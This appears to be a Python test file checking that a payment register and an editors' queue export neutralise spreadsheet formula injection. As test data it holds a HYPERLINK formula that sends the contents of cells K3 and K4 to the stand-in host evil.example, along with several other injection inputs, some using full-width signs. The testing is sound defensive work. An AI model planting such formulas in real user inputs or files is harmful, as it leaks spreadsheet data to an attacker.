"""Formula injection in the payment register and every other export. A
payee's full name typed into the public one-time details form must be a text cell in the
register's XLSX (read back with openpyxl: data type ``s``, never ``f``) and must not start
a formula in its CSV; the editors' queue export goes through the same helper
(``webapp.core.spreadsheet``)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from tests.helpers import VIEWERS_WIN, give_details, scan_pdf
from webapp.core.spreadsheet import safe_cell
from webapp.extensions import db
from webapp.prizes.models import Prize
from webapp.prizes.operations import mark_signed
from webapp.tasks.outbox import commit

EVIL = '=HYPERLINK("http://evil.example/?"&K3&K4,"Подробнее")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+7 (029) 123-45-67", "'+7 (029) 123-45-67"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\uff1dHYPERLINK(1)", "'\uff1dHYPERLINK(1)"),  # full-width equals sign
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20A1", "'\uff20A1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("Сапего Иван Петрович", "Сапего Иван Петрович"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        (150, 150),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_a_payee_name_formula_is_text_in_the_register(app, api, played, drain, login):
    game = played("qualifying", VIEWERS_WIN)
    api("post", f"/api/v1/games/{game}/close", role="producer")
    drain()
    prize = db.session.scalar(db.select(Prize).order_by(Prize.id))
    give_details(prize, drain, full_name=EVIL)
    db.session.expire_all()
    mark_signed(db.session.get(Prize, prize.id), scan_pdf(), "s.pdf", None)
    commit()
    client = login("accountant")

    r = client.get("/prizes/register?start=2024-02-01&end=2024-02-29&format=xlsx")
    assert r.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(r.data)).active
    payee = ws.cell(3, 3)
    assert (payee.value, payee.data_type) == ("'" + EVIL, "s")
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]

    r = client.get("/prizes/register?start=2024-02-01&end=2024-02-29&format=csv")
    lines = list(csv.reader(io.StringIO(r.data.decode("utf-8")[1:]), delimiter=";"))
    assert lines[1][2] == "'" + EVIL
    assert not [cell for line in lines for cell in line if cell and cell[0] in "=+-@\t\r"]


def test_the_queue_export_neutralises_full_width_signs(app, api, login):
    body = {
        "question": '\uff1dHYPERLINK("http://evil.example") — вопрос с формулой?',
        "answer": "=1+1",
        "authors": [{"name": "Автор", "city": "Минск"}],
        "email": "formula@example.com",
        "consent": True,
    }
    assert api("post", "/api/v1/submissions", json=body).status_code == 201
    client = login("editor")
    r = client.get("/editor/export.xlsx?status=received")
    assert r.status_code == 200, r.data[:300]
    ws = openpyxl.load_workbook(io.BytesIO(r.data)).active
    header = [c.value for c in ws[1]]
    row = ws[2]
    question, answer = row[header.index("Вопрос")], row[header.index("Ответ")]
    assert (question.value[:2], question.data_type) == ("'\uff1d", "s")
    assert (answer.value, answer.data_type) == ("'=1+1", "s")
